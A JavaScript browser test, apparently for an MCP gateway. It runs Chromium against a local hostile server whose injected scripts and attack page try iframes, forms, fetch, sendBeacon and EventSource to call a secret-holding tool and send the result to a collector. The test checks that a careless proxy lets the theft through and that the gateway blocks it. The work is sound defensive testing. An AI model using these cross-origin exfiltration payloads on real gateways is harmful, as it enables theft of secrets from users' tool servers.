// SPDX-License-Identifier: MIT
// A real browser between a hostile server at a URL and a server with a secret,
// both behind one gateway: no script of the hostile server runs in the origin
// of the gateway, and no page reads or calls anything there. Its own page of
// statistics works under its policy.
//
//   run.sh browser.mjs PITH
//
// The same pages are first opened through a proxy that hands on whatever comes:
// there the script must run and steal, or the test would show nothing.
// CHROMIUM names the browser; without one the test is skipped.

import {existsSync} from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import process from 'node:process';
import {chromium} from 'playwright-core';
import {checks, gateway, gateway_toml, sleep} from './support.mjs';

const secret = 'the-secret-of-the-vault';
// For what a page does after it was loaded.
const patience_milliseconds = 1500;

function listen(handler) {
  const server = http.createServer((request, response) => {
    const parts = [];
    request.on('data', (part) => parts.push(part));
    request.on('end', () => handler(
      request, response, Buffer.concat(parts).toString()));
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve({
      url: `http://127.0.0.1:${server.address().port}`,
      stop: () => new Promise((done) => {
        server.close(done);
        server.closeAllConnections();
      }),
    }));
  });
}

// An honest server whose only tool tells the secret.
async function start_vault() {
  const vault = {calls: 0};
  Object.assign(vault, await listen((request, response, body) => {
    const {id, method} = body === '' ? {} : JSON.parse(body);
    vault.calls += method === 'tools/call' ? 1 : 0;
    response.writeHead(200, {'content-type': 'application/json'});
    response.end(JSON.stringify({jsonrpc: '2.0', id,
      result: {content: [{type: 'text', text: secret}]}}));
  }));
  return vault;
}

const call = JSON.stringify({jsonrpc: '2.0', id: 1, method: 'tools/call',
  params: {name: 'tell', arguments: {}}});

// What the hostile server wants to run: says that it runs, and where, calls
// the vault in the same origin, and says what it got.
const script = (collector) => `
  const tell = (what) => fetch(${JSON.stringify(collector)} + '/collect',
    {method: 'POST', mode: 'no-cors', body: what});
  tell('runs in ' + self.origin);
  fetch('/vault/mcp', {method: 'POST', body: ${JSON.stringify(call)}, headers: {
    'content-type': 'application/json',
    'accept': 'application/json, text/event-stream'}})
    .then((answer) => answer.text()).then((text) => tell('read ' + text));`;

// Bodies of /weather/mcp, each with the types that it may be taken for.
const html = (code) =>
  `<!doctype html><title>x</title><script>${code}</script>`;
const bodies = {
  'html': ['text/html', html],
  'html without a type': [undefined, html],
  'html as JSON': ['application/json', html],
  'html as an unknown type': ['application/octet-stream', html],
  'xhtml': ['application/xhtml+xml', (code) =>
    '<html xmlns="http://www.w3.org/1999/xhtml">' +
    `<script><![CDATA[${code}]]></script></html>`],
  'svg': ['image/svg+xml', (code) =>
    '<svg xmlns="http://www.w3.org/2000/svg">' +
    `<script><![CDATA[${code}]]></script></svg>`],
  'a script': ['text/javascript', (code) => code],
  'events': ['text/event-stream', (code) => `data: ${html(code)}\n\n`],
};

// A page of the attacker's own origin that tries all ways into another one.
const attack = (target, collector) => html(`
  const tell = (what) => fetch('/collect', {method: 'POST', body: what});
  const place = ${JSON.stringify(`${target}/weather/mcp`)};
  const vault = ${JSON.stringify(`${target}/vault/mcp`)};
  for (const [tag, where] of [['iframe', 'src'], ['embed', 'src'],
    ['object', 'data'], ['script', 'src'], ['img', 'src'], ['video', 'src']]) {
    const element = document.createElement(tag);
    element[where] = place;
    document.documentElement.append(element);
  }
  const form = document.createElement('form');
  form.method = 'post';
  form.enctype = 'text/plain';
  form.action = vault;
  form.target = document.documentElement.appendChild(
    Object.assign(document.createElement('iframe'), {name: 'hidden'})).name;
  form.append(Object.assign(document.createElement('input'),
    {name: ${JSON.stringify(call.slice(0, -1))} + ',"x":"', value: '"}'}));
  document.documentElement.append(form);
  form.submit();
  for (const type of ['application/json', 'text/plain']) {
    for (const mode of ['cors', 'no-cors']) {
      fetch(vault, {method: 'POST', mode, body: ${JSON.stringify(call)},
        headers: {'content-type': type,
          'accept': 'application/json, text/event-stream'}})
        .then((answer) => answer.text()).then((text) => tell('read ' + text))
        .catch(() => {});
    }
  }
  navigator.sendBeacon(vault, ${JSON.stringify(call)});
  new EventSource(place).onmessage = (event) => tell('read ' + event.data);
  window.open(place);`);

// {url, next, heard}: answers /mcp with `next`, serves the attacker's page,
// and keeps what scripts say.
async function start_hostile() {
  const hostile = {next: bodies.html, heard: [], target: ''};
  Object.assign(hostile, await listen((request, response, body) => {
    if (request.url === '/collect') {
      hostile.heard.push(body);
      response.writeHead(204);
      response.end();
    } else if (request.url === '/attack') {
      response.writeHead(200, {'content-type': 'text/html'});
      response.end(attack(hostile.target, hostile.url));
    } else {
      const [type, make] = hostile.next;
      response.writeHead(200, {
        ...(type === undefined ? {} : {'content-type': type}),
        'content-security-policy': "script-src 'unsafe-inline'",
        'access-control-allow-origin': '*'});
      response.end(make(script(hostile.url)));
    }
  }));
  return hostile;
}

// Hands on what comes, as a gateway without a thought would.
function start_careless(servers) {
  return listen((request, response, body) => {
    const {url} = servers[request.url.split('/')[1]] ?? servers.weather;
    const upstream = http.request(`${url}/mcp`, {method: request.method},
      (answer) => {
        response.writeHead(answer.statusCode, answer.headers);
        answer.pipe(response);
      });
    upstream.on('error', () => response.destroy());
    upstream.end(body);
  });
}

// What was heard and called while `body` visited the target with a page.
async function visit(browser, servers, target, open) {
  const {vault, weather} = servers;
  weather.heard = [];
  weather.target = target;
  vault.calls = 0;
  const context = await browser.newContext();
  const page = await context.newPage();
  await open(page).catch(() => {});  // a refused page is not an error here
  await sleep(patience_milliseconds);
  await context.close();
  const origin = new URL(target).origin;
  return {
    runs: weather.heard.includes(`runs in ${origin}`),
    reads: weather.heard.some((what) => what.includes(secret)),
    calls: vault.calls, heard: weather.heard,
  };
}

// The page of statistics as a person sees it, after the calls above: its style
// holds, its script draws, and nothing asks for what the policy refuses.
async function look_at_statistics(browser, url, check) {
  const context = await browser.newContext({colorScheme: 'dark'});
  const page = await context.newPage();
  const said = [];
  page.on('console', (message) => said.push(message.text()));
  page.on('pageerror', (problem) => said.push(String(problem)));
  await page.goto(`${url}/`);
  const is_live = await page.waitForSelector('#state.live', {timeout: 10_000})
    .then(() => true, () => false);
  check('statistics: the script draws', is_live, said);
  const seen = await page.evaluate(() => ({
    paper: getComputedStyle(document.body).backgroundColor,
    servers: document.getElementById('servers').innerText,
    columns: document.querySelectorAll('#head th').length,
    fetched: performance.getEntriesByType('resource').map((r) => r.name),
  }));
  check('statistics: the style holds', seen.paper === 'rgb(18, 21, 23)', seen);
  check('statistics: the server that was called is there',
    seen.servers.includes('vault') && seen.columns === 10, seen);
  check('statistics: only its data are fetched', seen.fetched.length > 0 &&
    seen.fetched.every((name) => name === `${url}/stats.json`), seen);
  check('statistics: the browser complains of nothing',
    said.length === 0, said);
  await context.close();
}

function browser_path() {
  const found = [process.env.CHROMIUM,
    ...(process.env.PATH ?? '').split(':').flatMap((directory) =>
      ['chromium', 'chromium-browser'].map((n) => path.join(directory, n)))];
  return found.find((file) => file && existsSync(file));
}

async function main() {
  const [program] = process.argv.slice(2);
  if (program === undefined) {
    console.error('usage: browser.mjs PITH');
    process.exit(2);
  }
  const executablePath = browser_path();
  if (executablePath === undefined) {
    console.log('skipped: there is no Chromium');
    process.exit(77);
  }
  const {check, done} = checks();
  const browser = await chromium.launch({
    executablePath, args: ['--no-sandbox', '--disable-gpu']});
  const servers = {vault: await start_vault(), weather: await start_hostile()};
  const {vault, weather} = servers;
  const careless = await start_careless(servers);
  const served = await gateway(path.resolve(program), gateway_toml({
    vault: {url: `${vault.url}/mcp`}, weather: {url: `${weather.url}/mcp`}}));
  const navigate = (target) => (page) => page.goto(`${target}/weather/mcp`);
  const invade = (page) => page.goto(`${weather.url}/attack`);
  try {
    const stolen =
      await visit(browser, servers, careless.url, navigate(careless.url));
    check('a careless proxy: the script runs and reads the secret',
      stolen.runs && stolen.reads && stolen.calls === 1, stolen);
    const invaded = await visit(browser, servers, careless.url, invade);
    check('a careless proxy: a page of another origin gets in',
      invaded.runs && invaded.calls > 0, invaded);
    for (const [what, body] of Object.entries(bodies)) {
      weather.next = body;
      for (const [how, open] of [['opened', navigate(served.url)],
        ['attacked', invade]]) {
        const got = await visit(browser, servers, served.url, open);
        check(`${what}, ${how}: no script runs`, !got.runs, got);
        check(`${what}, ${how}: nothing is read`, !got.reads, got);
        check(`${what}, ${how}: nothing is called`, got.calls === 0, got);
      }
    }
    // The gateway and the vault are there: whoever may call gets the secret.
    const answer = await fetch(served.endpoint('vault'), {method: 'POST',
      body: call, headers: {'content-type': 'application/json',
        'accept': 'application/json, text/event-stream'}});
    check('a client that is not a page reads it',
      (await answer.text()).includes(secret));
    await look_at_statistics(browser, served.url, check);
  } finally {
    await browser.close();
    await served.stop();
    for (const one of [careless, vault, weather]) {
      await one.stop();
    }
  }
  done();
}

await main();
